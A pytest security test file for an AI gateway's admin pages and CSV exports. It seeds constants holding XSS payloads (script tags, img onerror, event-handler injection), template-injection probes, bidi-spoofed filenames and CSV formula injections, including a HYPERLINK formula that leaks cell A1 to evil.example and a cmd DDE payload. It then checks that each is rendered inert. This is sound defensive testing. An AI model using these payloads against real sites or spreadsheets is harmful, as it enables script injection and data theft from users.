"""Names that mean harm, wherever a name may be: inert on every page there is, and in tables.

Pages are found by their links, so those that come later are looked at as well.
"""

import csv
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from urllib.parse import quote, urlsplit

import pytest
from flask import Flask
from playwright.sync_api import Dialog, Page, expect
from werkzeug.exceptions import HTTPException
from werkzeug.routing import MapAdapter
from werkzeug.test import TestResponse

from tests.blueprints.browser import PASSWORD, Browser, installed, running
from tests.blueprints.looks import SIZES, is_whole
from tests.blueprints.person import Person
from tests.blueprints.visitor import WITH_PASSWORD, Visitor
from tests.running import Running
from tests.upstream import Json, Received, Upstream, completion, failure

SCRIPT = "<script>window.harmed=1;alert('1')</script>"
IMAGE = """"'><img src=x onerror="window.harmed=1">"""
HANDLER = "' onmouseover='window.harmed=1' autofocus onfocus='window.harmed=1' x='"
TEMPLATE = "{{ 7 * 7 }}${7*7}#{7*7}%s%(x)s"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MINUS, PLUS, AT = "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(1,1)"
WIDE = "\uff1d1+1"
EMOJI = "💥🧨🏴‍☠️👩‍👩‍👧‍👦" * 5
TURNED = "user\u202egnp.exe\u2066\u200f\u05d0\u05d1"
HEAP = "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 12
LONG = "x" * 10_000
NAMES = (
    SCRIPT,
    IMAGE,
    HANDLER,
    TEMPLATE,
    FORMULA,
    MINUS,
    PLUS,
    AT,
    WIDE,
    "💥🧨" * 20,
    HEAP,
    "w" * 100,
)
"""As long as a name may be, and without what it may not hold."""
TEXTS = (*NAMES, EMOJI, TURNED, LONG, "a\nb\r\n\tc", "javascript:window.harmed=1", "\u2028")
EVERYTHING = "\n".join(TEXTS)
TOOL = f'''"""Tools of the tests."""
from gateway.tools.modules import tool


@tool
def hostile(word: str) -> str:
    """{SCRIPT} {TURNED} {LONG}"""
    return word
'''
AT_MOST = 3
"""Pages of one kind that are looked at."""
SKIPPED = ("/admin/login", "/admin/ws", "/admin/set-up", "/admin/logout", "/admin/session")


def answer(received: Received) -> Json:
    """Words that mean harm, as a vendor's answer, its error, or the tool that it calls."""
    asked = received.json
    text = asked["messages"][0]["content"]
    if text == SCRIPT or text == LONG:
        return failure(400, text, code=text[:200], type=text[:200])
    if asked.get("tools"):
        name = asked["tools"][0]["function"]["name"]
        return Json(completion(None, tool_calls=[(name, {"x": EVERYTHING})]))
    return Json(completion(EVERYTHING, model=text[:200]))


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "own.py").write_text(TOOL)
    settings = {
        "demo": {"tokens_per_second": 0},
        "admin": {"sign_in_per_minute": 1000},
        "upstream": {"max_retries": 0},
        "access": {"keyless_per_minute": 1000},
        "tools": {"modules": [str(folder / "own.py")], "enabled": ["*"]},
        "oidc": {
            "issuer": "https://id.example",
            "client_id": SCRIPT,
            "client_secret": "y",
            "name": IMAGE,
            "admins": ["boss@corp.example"],
        },
    }
    with (
        Upstream() as upstream,
        Running(folder, settings, workers=2, environment=WITH_PASSWORD) as gateway,
    ):
        upstream.always(answer)
        calls = sum(live_with(gateway, upstream, name) for name in NAMES)
        gateway.rows(calls)
        name_admins(gateway)
        yield gateway


def live_with(gateway: Running, upstream: Upstream, name: str) -> int:
    """A client of this name, in all of its fields, and its calls; gives how many."""
    key = gateway.client(
        name=name[:100],
        description=f"{name}\n{EVERYTHING}",
        provider="openai-compatible",
        provider_base_url=f"{upstream.base_url}/<i>'x'</i>",
        provider_api_key="secret-of-the-vendor",
        default_model=name,
        allowed_models=["*", name],
        model_aliases={name.replace("*", ""): name, f"{HEAP[:50]}*": IMAGE},
        fallback_models=[name],
        system_prompt=EVERYTHING,
        log_bodies="full",
        server_tools=["*"],
        max_concurrent=1_000_000,
        quota_requests_day=10**15,
    )
    said = {"x-request-id": re.sub(r"[^ -~]", "?", f"{name} {SCRIPT}")[:200]}
    tool = {"type": "function", "function": {"name": name, "description": EVERYTHING}}
    asked = [{"content": text} for text in (name, SCRIPT, LONG, EVERYTHING)]
    for message in asked:
        body = {"model": name, "messages": [{"role": "user", **message}]}
        gateway.chat(key, body, **said)
    gateway.chat(key, {"messages": [{"role": "user", "content": "x"}], "tools": [tool]}, **said)
    gateway.chat(key, {"model": EVERYTHING, "messages": [{"role": "user", "content": "x"}]})
    gateway.chat(f"{key}x", {"model": name})
    return len(asked) + 3


def name_admins(gateway: Running) -> None:
    """By the form, and two that an older table may hold."""
    boss = Visitor(gateway)
    for name in NAMES:
        form = {"username": name[:100], "role": "viewer", "password": PASSWORD, "again": PASSWORD}
        assert boss.post("/admin/admins", **form).status_code in (302, 422)
    with closing(sqlite3.connect(gateway.data / "gateway.db", timeout=10)) as database, database:
        for name in (TURNED, "\u202e\u2066" * 50):
            database.execute(
                "INSERT INTO admins (username, password_hash, role, session_epoch, created_at) "
                "VALUES (?, 'x', 'viewer', 1, '2026-01-01')",
                (name,),
            )


@pytest.fixture(scope="module")
def routes(tmp_path_factory: pytest.TempPathFactory) -> Iterator[MapAdapter]:
    with running(installed(tmp_path_factory.mktemp("routes"))) as app:
        yield app.url_map.bind("localhost")


def pages(person: Person, routes: MapAdapter) -> Iterator[str]:
    """Addresses of pages, and of what they link to; a few of each kind."""
    rules = routes.map.iter_rules()
    plain = [rule.rule for rule in rules if "GET" in (rule.methods or ()) and not rule.arguments]
    waiting = [one for one in plain if is_page(one)]
    seen: dict[str, int] = {}
    known = set(waiting)
    while waiting:
        path = waiting.pop(0)
        kind = kind_of(routes, path)
        if kind is None or seen.get(kind, 0) >= AT_MOST:
            continue
        seen[kind] = seen.get(kind, 0) + 1
        yield path
        for address in person.page.eval_on_selector_all("a[href]", "all => all.map(a => a.href)"):
            parts = urlsplit(address)
            link = parts.path + (f"?{parts.query}" if parts.query else "")
            if address.startswith(person.gateway.origin) and is_page(link) and link not in known:
                known.add(link)
                waiting.append(link)
    assert len(seen) > 10


def is_page(path: str) -> bool:
    alone = path.partition("?")[0]
    is_data = "/api/" in alone or alone.endswith((".csv", ".json", "/parts"))
    return alone.startswith(("/admin", "/docs")) and not is_data and not alone.startswith(SKIPPED)


def kind_of(routes: MapAdapter, path: str) -> str | None:
    try:
        rule, _ = routes.match(path.partition("?")[0], "GET", return_rule=True)
    except HTTPException:
        return None
    return rule.rule


def test_they_are_inert_on_every_page(person: Person, routes: MapAdapter) -> None:
    page = person.page
    dialogs: list[str] = []

    def hear(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", hear)
    for path in pages(person, routes):
        page.goto(person.gateway.origin + path)
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        if page.locator("[data-live-state]").count():
            person.is_live()
        is_inert(page, path)
        for width, height in SIZES:
            page.set_viewport_size({"width": width, "height": height})
            is_whole(page)
        assert (path, person.problems, dialogs) == (path, [], [])


def is_inert(page: Page, path: str) -> None:
    for details in page.locator("main details:not([open]) > summary").all()[:5]:
        details.click()
    page.evaluate(
        """() => document.querySelectorAll("main *").forEach((one) => {
          for (const kind of ["mouseover", "focus"]) one.dispatchEvent(new Event(kind));
        })"""
    )
    found = page.evaluate(
        """() => ({
          harmed: window.harmed ?? null,
          planted: document.querySelectorAll(
            "main script:not([src]), img[src='x'], [onerror], [onmouseover], [onfocus], "
            + "main a[href^='javascript:']"
          ).length,
          reckoned: document.body.innerText.includes("{49}") || document.title.includes("49$"),
          turning: [...function* () {
            const main = document.querySelector("main");
            const walk = document.createTreeWalker(main, NodeFilter.SHOW_TEXT);
            while (walk.nextNode()) {
              const { data, parentElement } = walk.currentNode;
              if (/[\\u202a-\\u202e\\u2066-\\u2069]/.test(data)
                  && !parentElement.closest("bdi, pre, textarea, option, script"))
                yield parentElement.outerHTML.slice(0, 200);
            }
          }()],
        })"""
    )
    assert (path, found) == (path, {"harmed": None, "planted": 0, "reckoned": False, "turning": []})


@pytest.mark.parametrize("text", [SCRIPT, IMAGE, HANDLER, TURNED, "\0", LONG, "-1", "1e400"])
def test_what_is_typed_comes_back_as_text(app: Flask, signed_in: Browser, text: str) -> None:
    """In every field of every form, in every page's query, and in paths."""
    for rule in app.url_map.iter_rules():
        path = re.sub(r"<int:[^>]*>", "1", rule.rule)
        if not is_page(path) or rule.websocket:
            continue
        path = re.sub(r"<[^>]*>", lambda _: quote(text.encode("utf-8", "replace"), safe=""), path)
        if "GET" in (rule.methods or ()):
            asked = dict.fromkeys(fields_of(signed_in.get(path)), text)
            is_bare(path, signed_in.client.get(path, query_string=asked))
        if "POST" in (rule.methods or ()) and "account" not in path:
            form = dict.fromkeys([*fields_of(signed_in.get(path)), *FIELDS], text)
            form["csrf_token"] = signed_in.token("/admin/account")
            is_bare(path, signed_in.client.post(path, data=form))
    assert signed_in.get("/admin/account").status_code == 200


def fields_of(page: TestResponse) -> list[str]:
    return re.findall(r'name="([^"]+)"', page.text) if page.status_code == 200 else []


FIELDS = ("username", "role", "name", "grace_seconds", "current", "code", "model", "enabled")
"""What forms elsewhere send to an address."""


def is_bare(path: str, answer: TestResponse) -> None:
    assert answer.status_code < 500, path
    for harm in (SCRIPT, "<img src=x", "' onmouseover='"):
        assert harm not in answer.text, path


def test_the_sign_in_page_bears_a_name_that_means_harm(person: Person) -> None:
    person.page.context.clear_cookies()
    person.go("login")
    expect(person.page.get_by_role("link", name="Sign in with")).to_contain_text("<img src=x")
    is_inert(person.page, "login")


@pytest.mark.parametrize("table", ["requests.csv", "usage.csv"])
def test_no_cell_of_a_table_is_a_formula(gateway: Running, table: str) -> None:
    text = gateway.admin("GET", f"/{table}").body.decode()
    cells = [cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row]
    assert f"'{FORMULA}" in cells and f"'{WIDE}" in cells
    wrong = [cell for cell in cells if re.match(r"\s*[=+@\uff1d\uff0b\uff0d\uff20-]", cell)]
    assert [cell for cell in wrong if not re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", cell)] == []
